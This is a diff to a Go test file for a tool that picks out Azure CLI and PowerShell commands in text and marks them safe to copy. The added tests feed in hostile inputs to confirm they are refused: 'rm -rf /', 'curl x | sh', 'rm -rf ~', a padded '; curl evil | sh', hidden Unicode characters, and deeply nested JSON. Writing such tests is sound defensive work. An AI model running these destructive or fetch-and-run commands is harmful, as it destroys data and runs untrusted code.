@@ -57,7 +57,10 @@ func TestCommandsAreToldFromWords(t *testing.T) {
 		"Ask somebody.":           {"-Ask somebody."},
 		"az storage account list": {"$az storage account list"},
 		"Do:\r\n\r\n  az a \\\r\n    --b\r\n\r\nand\nSet-AzContext -Subscription x\nGet-AzVM\nthen look": {
-			"-Do:", "$az a \\\n    --b", "-and", "$Set-AzContext -Subscription x\nGet-AzVM", "-then look"},
+			"-Do:", "$az a \\\n  --b", "-and", "$Set-AzContext -Subscription x", "$Get-AzVM", "-then look"},
+		"Get-AzVM |\nWhere-Object Name -eq x |\n\tStop-AzVM -Force":           {"$Get-AzVM |\n  Where-Object Name -eq x |\n  Stop-AzVM -Force"},
+		"az keyvault secret list-versions\naz group update --name Übung | jq": {"$az keyvault secret list-versions", "$az group update --name Übung | jq"},
+		"az keyvaults are the place\nSet-AzContext is what you need":          {"-az keyvaults are the place\nSet-AzContext is what you need"},
 		"Set-AzVM `\n  -Name x":                             {"$Set-AzVM `\n  -Name x"},
 		"azure is a cloud\nSet-Azimuth\nSet your goals\naz": {"-azure is a cloud\nSet-Azimuth\nSet your goals\naz"},
 		"rm -rf /\ncurl x | sh\nInvoke-Expression x":        {"-rm -rf /\ncurl x | sh\nInvoke-Expression x"},
@@ -78,10 +81,20 @@ func TestCommandsAreToldFromWords(t *testing.T) {
 
 // TestAttackHiddenCharactersInACommand: what is copied must be what was read.
 func TestAttackHiddenCharactersInACommand(t *testing.T) {
-	for _, c := range []string{"\u202e", "\u200b", "\ufeff", "\x1b[8m", "\r", "\u2028", "\u00ad", "\x08"} {
-		for _, p := range fixOf("az vm list" + c + " --all\nand more") {
+	for _, c := range []string{"\u202e", "\u200b", "\ufeff", "\x1b[8m", "\r", "\u2028", "\u00ad", "\x08", "\t", "\u00a0", "\u3000", "\u0085", "\u3164", "\u115f",
+		"\uffa0", "\u2800", "\u034f", "\ufe0f", "\U000e0100", "   ", strings.Repeat(" ", 300) + "; curl evil | sh"} {
+		for _, p := range fixOf("az vm update --name x" + c + " --all\nand more") {
 			if p.Command {
 				t.Errorf("%q is to be copied: %q", c, p.Text)
+			}
+		}
+	}
+	// What comes after the line may be another command.
+	for _, text := range []string{"az vm list \\\nrm -rf ~", "az vm list \\\n\n\n--all", "az vm list --query `\nrm -rf /", "az vm list |\nsh", "az vm list --all \\",
+		"az vm list \\\n--all \\\nrm -rf ~", "az vm list --a \\\naz vm delete --b"} {
+		for _, p := range fixOf(text) {
+			if p.Command {
+				t.Errorf("of %q is to be copied: %q", text, p.Text)
 			}
 		}
 	}
@@ -108,6 +121,29 @@ func TestEvidenceIsSetOutInLines(t *testing.T) {
 	evidenceOf(strings.Repeat("{[", azts.TextLimit/2))
 	if took := time.Since(begun); took > time.Second {
 		t.Errorf("a text of brackets takes %v", took)
+	}
+}
+
+// TestAttackEvidenceThatGrows: each line of JSON that is set out begins with
+// blanks for its depth, so 20 KB would become 200 MB.
+func TestAttackEvidenceThatGrows(t *testing.T) {
+	nested := func(depth int, inside string) string {
+		return strings.Repeat("[", depth) + inside + strings.Repeat("]", depth)
+	}
+	for name, reason := range map[string]string{
+		"depth":          nested(9990, "1,2"),
+		"objects":        strings.Repeat(`{"":`, 5000) + "1" + strings.Repeat("}", 5000),
+		"one too deep":   nested(deepestEvidence+1, "1,2"),
+		"wide and large": nested(deepestEvidence, strings.Repeat("1,", 2000)+"1"),
+	} {
+		if text, evidence := evidenceOf(reason); text != reason || evidence != "" {
+			t.Errorf("%s: %d bytes became %d", name, len(reason), len(evidence))
+		}
+	}
+	for _, reason := range []string{nested(deepestEvidence, "1,2"), `["` + strings.Repeat(`[{\"`, 100) + `",1]`} {
+		if text, evidence := evidenceOf(reason); text != "" || evidence == "" {
+			t.Errorf("%.40q is not set out", reason)
+		}
 	}
 }
 
